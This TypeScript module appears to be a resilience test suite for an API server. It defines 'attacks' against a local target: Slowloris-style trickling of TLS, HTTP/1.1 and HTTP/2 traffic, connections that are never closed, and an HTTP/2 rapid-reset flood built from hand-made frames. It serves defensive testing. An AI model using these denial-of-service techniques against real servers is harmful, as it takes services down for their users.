import { once } from "node:events";
import { type ClientHttp2Session, connect as connectHttp2 } from "node:http2";
import { connect as connectTcp, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { type Attack, Breach } from "../attack.ts";
import type { Target } from "../target.ts";

/** The time in milliseconds within which an idle connection is closed. */
const patienceMs = 30_000;

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const emptySettings = frame(0x4, 0, 0);
/** GET / by the static table of HPACK, without the authority, which RFC 9113 allows. */
const getRoot = Buffer.from([0x82, 0x84, 0x87]);
const postRoot = Buffer.from([0x83, 0x84, 0x87]);
const endHeaders = 0x4;
const endStream = 0x1;

/** An HTTP/2 frame (RFC 9113, section 4.1). */
function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function openTcp({ port }: Target): Socket {
  return connectTcp({ host: "127.0.0.1", port });
}

async function openTls({ port, tls }: Target, protocol: "h2" | "http/1.1"): Promise<Socket> {
  const socket = connectTls({ host: "127.0.0.1", port, ALPNProtocols: [protocol], ...tls("anonymous") });
  socket.on("error", () => {});
  await once(socket, "secureConnect");
  return socket;
}

/** Keeps connections open, sending a byte or frame each second if given; throws when some last too long. */
async function hold(sockets: readonly Socket[], trickle?: Buffer | string): Promise<void> {
  const still = new Set(sockets);
  for (const socket of sockets) {
    socket.on("error", () => {});
    socket.on("data", () => {});
    socket.once("close", () => still.delete(socket));
  }
  const start = performance.now();
  while (still.size > 0 && performance.now() - start < patienceMs) {
    await new Promise((resolve) => setTimeout(resolve, 1000));
    if (trickle !== undefined) for (const socket of still) socket.write(trickle);
  }
  for (const socket of still) socket.destroy();
  if (still.size > 0) throw new Breach(`${still.size} of ${sockets.length} connections lasted 30 s`);
}

/** Resolves with the status of an answer whose body stays unread; undefined when the stream was refused. */
function statusOf(session: ClientHttp2Session, path: string): Promise<number | undefined> {
  return new Promise((resolve) => {
    const stream = session.request({ ":path": path });
    stream.once("response", ({ ":status": status }) => resolve(status));
    stream.once("error", () => resolve(undefined));
    stream.pause();
  });
}

const many = <T>(make: () => T): T[] => Array.from({ length: 50 }, make);

/** Connections that are opened and then kept, each in another way. */
const waits: readonly (readonly [what: string, run: (target: Target) => Promise<void>])[] = [
  ["TCP without TLS", (target) => hold(many(() => openTcp(target)))],
  [
    "a TLS handshake that trickles",
    (target) => {
      const sockets = many(() => openTcp(target));
      // The head of a client hello of 512 bytes.
      for (const socket of sockets) socket.write(Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]));
      return hold(sockets, Buffer.from([0]));
    },
  ],
  [
    "HTTP/1.1 headers that trickle",
    async (target) => {
      const sockets = await Promise.all(many(() => openTls(target, "http/1.1")));
      for (const socket of sockets) socket.write("GET / HTTP/1.1\r\nhost: x\r\nx: ");
      await hold(sockets, "x");
    },
  ],
  [
    "HTTP/1.1 headers that trickle after an answer",
    async (target) => {
      const sockets = await Promise.all(many(() => openTls(target, "http/1.1")));
      for (const socket of sockets) {
        socket.write("GET /livez HTTP/1.1\r\nhost: x\r\n\r\n");
        await once(socket, "data");
        socket.write("GET / HTTP/1.1\r\nhost: x\r\nx: ");
      }
      await hold(sockets, "x");
    },
  ],
  [
    "an HTTP/1.1 body that trickles",
    async (target) => {
      const sockets = await Promise.all(many(() => openTls(target, "http/1.1")));
      const head = "POST /apis/authorization.k8s.io/v1/selfsubjectaccessreviews HTTP/1.1";
      for (const socket of sockets) socket.write(`${head}\r\nhost: x\r\ncontent-length: 100000\r\n\r\n{`);
      await hold(sockets, " ");
    },
  ],
  ["HTTP/2 without a preface", async (target) => hold(await Promise.all(many(() => openTls(target, "h2"))))],
  [
    "an HTTP/2 connection without a request",
    async (target) => {
      const sockets = await Promise.all(many(() => openTls(target, "h2")));
      for (const socket of sockets) socket.write(Buffer.concat([Buffer.from(preface), emptySettings]));
      await hold(sockets, frame(0x6, 0, 0, Buffer.alloc(8)));
    },
  ],
  [
    "HTTP/2 headers without an end",
    async (target) => {
      const sockets = await Promise.all(many(() => openTls(target, "h2")));
      const open = [Buffer.from(preface), emptySettings, frame(0x1, 0, 1, getRoot)];
      for (const socket of sockets) socket.write(Buffer.concat(open));
      await hold(sockets);
    },
  ],
];

/** Attacks that hold connections and their file descriptors, or open and close streams. */
export const connections: readonly Attack[] = [
  ...waits.map(([what, run]): Attack => ({ name: `connections do not last: ${what}`, slow: true, run })),
  {
    name: "streams do not last: an HTTP/2 body that never ends",
    slow: true,
    async run(target) {
      const socket = await openTls(target, "h2");
      const open = [Buffer.from(preface), emptySettings, frame(0x1, endHeaders, 1, postRoot)];
      socket.write(Buffer.concat(open));
      let isAnswered = false;
      socket.on("data", (bytes: Buffer) => {
        // HEADERS or RST_STREAM of stream 1.
        isAnswered ||=
          bytes.includes(frame(0x3, 0, 1).subarray(3)) || bytes.includes(Buffer.from([1, 4, 0, 0, 0, 1]));
      });
      const start = performance.now();
      while (!isAnswered && performance.now() - start < patienceMs) {
        await new Promise((resolve) => setTimeout(resolve, 1000));
        if (!socket.destroyed) socket.write(frame(0x0, 0, 1, Buffer.from(" ")));
        isAnswered ||= socket.destroyed;
      }
      socket.destroy();
      if (!isAnswered) throw new Breach("the stream lasted 30 s");
    },
  },
  {
    name: "a body of 20 MB is refused alone: the connection stays open",
    async run({ send }) {
      const path = "/api/v1/namespaces/default/configmaps";
      const body = "x".repeat(20 * 1024 * 1024);
      const codes = await Promise.all(
        Array.from({ length: 6 }, async (_, index) => {
          const isUpload = index % 2 === 0;
          return (await send("admin", isUpload ? "POST" : "GET", path, isUpload ? { body } : {}))?.code;
        }),
      );
      if (codes.join() !== "413,200,413,200,413,200") throw new Breach(`answers: ${codes.join()}`);
    },
  },
  {
    name: "a request with an unneeded body gets its answer",
    async run({ send }) {
      const path = "/api/v1/namespaces/default/configmaps";
      const hung = new Promise<"hung">((resolve) => void setTimeout(resolve, 15_000, "hung").unref());
      const answers = Array.from({ length: 64 }, async (_, worker) => {
        for (let i = 0; i < 50; i++) {
          const body = i % 2 === 0 ? "" : "{}";
          await send(worker % 2 === 0 ? "admin" : "anybody", i % 2 === 0 ? "POST" : "OPTIONS", path, {
            body,
          });
        }
      });
      if ((await Promise.race([Promise.all(answers), hung])) === "hung")
        throw new Breach("no answer for 15 s");
    },
  },
  {
    name: "unread answers leave room for other requests",
    async run({ port, tls, send }) {
      const path = "/api/v1/namespaces/default/configmaps";
      const data = { a: "x".repeat(900_000) };
      const names = ["unread-1", "unread-2"];
      for (const name of names)
        await send("admin", "POST", path, { body: JSON.stringify({ metadata: { name }, data }) });
      const settings = { initialWindowSize: 1_000 };
      const session = connectHttp2(`https://127.0.0.1:${port}`, { ...tls("admin"), settings });
      session.on("error", () => {});
      try {
        const all = Array.from({ length: 300 }, () => statusOf(session, path));
        const refused = (await Promise.all(all)).filter((status) => status !== 200);
        if (refused.length > 0) throw new Breach(`${refused.length} of ${all.length} requests were refused`);
      } finally {
        session.destroy();
      }
      for (const name of names) await send("admin", "DELETE", `${path}/${name}`);
    },
  },
  {
    name: "streams that are reset at once do not stall the server",
    async run(target) {
      const socket = await openTls(target, "h2");
      socket.on("data", () => {});
      socket.write(Buffer.concat([Buffer.from(preface), emptySettings]));
      for (let burst = 0; burst < 100 && !socket.destroyed; burst++) {
        const frames = Array.from({ length: 500 }, (_, index) => {
          const stream = 1 + 2 * (burst * 500 + index);
          const open = frame(0x1, endHeaders | endStream, stream, getRoot);
          return Buffer.concat([open, frame(0x3, 0, stream, Buffer.from([0, 0, 0, 8]))]);
        });
        if (socket.write(Buffer.concat(frames))) continue;
        await new Promise<void>((resolve) => void socket.once("drain", resolve).once("close", resolve));
      }
      socket.destroy();
    },
  },
];
